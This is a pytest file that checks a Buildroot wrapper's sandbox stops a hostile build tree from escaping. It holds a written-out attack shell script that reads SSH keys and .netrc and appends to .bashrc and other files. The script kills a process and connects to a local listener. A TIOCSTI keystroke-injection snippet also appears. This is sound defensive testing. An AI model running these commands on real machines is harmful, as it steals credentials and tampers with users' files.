"""Nothing of a Buildroot tree leaves its sandbox, whatever verb runs it: real makes on a hostile little tree."""

from __future__ import annotations

import fcntl
import os
import pty
import select
import socket
import struct
import subprocess
import sys
import termios
import threading
import time
import tty
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from tests import little

from rootstream.buildroot import confined

LONG = 120.0  # seconds
SYSTEM = """\
systems:
  box:
    arch: x86_64
    root: {{buildroot: {{tree: {{local: {tree}}}, defconfig: box_defconfig}}}}
    images: [files]
"""
# Tries what a rule could try. Nothing of it may be seen outside.
ATTACK = """\
secret=$(cat {home}/.ssh/id {home}/.netrc {beside}/other 2>/dev/null)
for place in {home} {project} {tree} {project}/.rootstream/buildroot/box/state {beside} {scratch}; do
    for name in .canary .bashrc system.yaml Makefile; do
        test "$place" = {tree} -a "$name" = Makefile && continue
        (echo "attacked $secret" >> $place/$name) 2>/dev/null
    done
done
kill -9 {sleeper} 2>/dev/null
python3 -c 'import socket; socket.create_connection(("127.0.0.1", {port}), 1).send(b"here")' 2>/dev/null
if test "$1" = make; then mkdir -p $2; echo "found <$secret>" >> $2/found; fi
true
"""
VERBS = (
    ("build", "--plain"),
    ("build", "-n"),
    ("show",),
    ("make", "help"),
    ("make", "one-rebuild"),
    ("make", "legal-info"),
    ("make", "printvars"),
    ("config", "check"),
    ("config", "get", "BR2_ONE"),
    ("config", "set", "BR2_TWO=y"),
    ("config", "minimize"),
    ("fetch",),
    ("update",),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Place:
    """A project of a hostile tree, and what lies around it."""

    home: Path
    project: Path
    tree: Path
    beside: Path
    scratch: Path
    sleeper: subprocess.Popen[bytes]
    connections: list[str]

    def canaries(self) -> dict[str, bytes | None]:
        """Return what the attack may not change, by path."""
        folders = [self.home, self.project, self.tree, self.beside, self.scratch]
        folders.append(self.project / ".rootstream/buildroot/box/state")
        names = (".canary", ".bashrc", "system.yaml", "Makefile")
        paths = [folder / name for folder in folders for name in names]
        return {str(path): path.read_bytes() if path.is_file() else None for path in paths}

    def run(self, *words: str, status: int | None = 0, **more: str) -> subprocess.CompletedProcess[str]:
        env = {
            **{name: value for name, value in os.environ.items() if not name.startswith(("XDG_", "ROOTSTREAM_"))},
            "HOME": str(self.home),
            **more,
        }
        argv = [sys.executable, "-m", "rootstream", *words]
        done = subprocess.run(
            argv, cwd=self.project, env=env, capture_output=True, text=True, timeout=LONG, check=False
        )
        assert status is None or done.returncode == status, done.stdout + done.stderr
        return done


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Place]:
    names = ("home", "project", "tree", "beside", "scratch")
    folders = {name: tmp_path / name for name in names}
    for folder in folders.values():
        folder.mkdir()
    (folders["home"] / ".ssh").mkdir()
    (folders["home"] / ".ssh/id").write_text("key of the user")
    (folders["home"] / ".bashrc").write_text("# the user's\n")
    (folders["beside"] / "other").write_text("another project")
    (folders["project"] / "box_defconfig").write_text("BR2_ONE=y\n")
    connections: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server, subprocess.Popen(["sleep", "600"]) as sleeper:
        port = server.getsockname()[1]
        threading.Thread(target=_accept, args=(server, connections), daemon=True).start()
        attack = ATTACK.format(**folders, sleeper=sleeper.pid, port=port)
        little.tree(folders["tree"], attack=attack)
        (folders["project"] / "system.yaml").write_text(SYSTEM.format(tree=folders["tree"]))
        try:
            yield Place(**folders, sleeper=sleeper, connections=connections)
        finally:
            sleeper.kill()


def _accept(server: socket.socket, connections: list[str]) -> None:
    while True:
        try:
            connection, address = server.accept()
        except OSError:
            return
        connections.append(str(address))
        connection.close()


def unharmed(place: Place, before: dict[str, bytes | None]) -> None:
    found = {path: content for path, content in place.canaries().items() if content != before[path]}
    found.pop(str(place.project / "system.yaml"), None)  # `config` may write it; see below
    assert not found
    assert b"attacked" not in (place.project / "system.yaml").read_bytes()
    assert not place.connections
    assert place.sleeper.poll() is None
    for path in (place.project / ".rootstream").rglob("found"):
        assert "key of the user" not in path.read_text()
        assert "another project" not in path.read_text()


def test_no_verb_lets_a_tree_out(place: Place) -> None:
    for words in VERBS:
        before = place.canaries()
        place.run(*words)
        unharmed(place, before)
    assert (place.project / ".rootstream/buildroot/box/output/found").read_text().startswith("found <>")
    assert (place.project / "out/box/made.txt").read_text() == "made\n"


def test_a_shell_and_a_menu_are_in_the_sandbox_too(place: Place) -> None:
    place.run("build")
    before = place.canaries()
    attack = ["sh", str(place.tree / "attack.sh"), "shell"]
    place.run("shell", "box:one", "--", *attack)
    unharmed(place, before)
    argv = [sys.executable, "-m", "rootstream", "config", "--to", "box_defconfig"]
    assert on_a_terminal(argv, cwd=place.project, home=place.home)[0] == 0
    unharmed(place, before)
    assert "BR2_MENU=y" in (place.project / "box_defconfig").read_text()


TYPE = "import fcntl, termios; [fcntl.ioctl(0, termios.TIOCSTI, bytes([each])) for each in b'typed']"


def on_a_terminal(
    argv: list[str], *, cwd: Path, home: Path, keys: bytes = b"", after: bytes = b""
) -> tuple[int, bytes, bytes]:
    """Run a command on a terminal and type keys after it has printed something.

    Returns its status, what it printed, and what is left to read from the keyboard.
    """
    primary, secondary = pty.openpty()
    fcntl.ioctl(secondary, termios.TIOCSWINSZ, struct.pack("HHHH", 33, 99, 0, 0))
    env = {**os.environ, "HOME": str(home), "TERM": "linux"}
    printed = bytearray()
    with subprocess.Popen(
        argv, cwd=cwd, env=env, stdin=secondary, stdout=secondary, stderr=secondary, start_new_session=True
    ) as child:
        deadline = time.monotonic() + LONG
        while child.poll() is None and time.monotonic() < deadline:
            while select.select([primary], [], [], 0.2)[0]:
                printed += os.read(primary, 1 << 16)
            if keys and after in printed:
                os.write(primary, keys)
                keys = b""
        child.kill()
    os.set_blocking(secondary, False)
    tty.setraw(secondary, termios.TCSANOW)
    try:
        left = os.read(secondary, 100)
    except BlockingIOError:
        left = b""
    os.close(primary)
    os.close(secondary)
    return child.returncode, bytes(printed), left


def test_a_shell_has_a_terminal_and_cannot_type_into_ours(place: Place) -> None:
    place.run("build")
    argv = [sys.executable, "-m", "rootstream", "shell", "box:one"]
    keys = f'stty size; tty; exec python3 -c "{TYPE}"\n'
    _, printed, left = on_a_terminal(argv, cwd=place.project, home=place.home, keys=keys.encode(), after=b"$ ")
    assert b"33 99" in printed
    assert b"typed" not in left


def test_ctrl_c_is_for_the_program(place: Place) -> None:
    place.run("build")
    script = "trap 'echo caught; exit 7' INT; echo ready; read word"
    argv = [sys.executable, "-m", "rootstream", "shell", "box:one", "--", "sh", "-c", script]
    status, printed, _ = on_a_terminal(argv, cwd=place.project, home=place.home, keys=b"\x03", after=b"ready")
    assert (status, b"caught" in printed) == (7, True)


def test_an_import_runs_nothing_outside(place: Place) -> None:
    (place.tree / ".config").write_text("BR2_ONE=y\n")
    before = place.canaries()
    place.run("import", str(place.tree), str(place.beside / "made"), status=None)
    unharmed(place, before)


def test_the_attack_works_where_the_user_wants_no_sandbox(place: Place) -> None:
    before = place.canaries()
    done = place.run("config", "check", **{confined.VARIABLE: confined.OFF}, status=None)
    assert confined.VARIABLE in done.stderr
    after = place.canaries()
    assert after[str(place.home / ".canary")] != before[str(place.home / ".canary")]
    assert b"key of the user" in (after[str(place.home / ".canary")] or b"")
    assert place.sleeper.wait(LONG) == -9
    assert place.connections
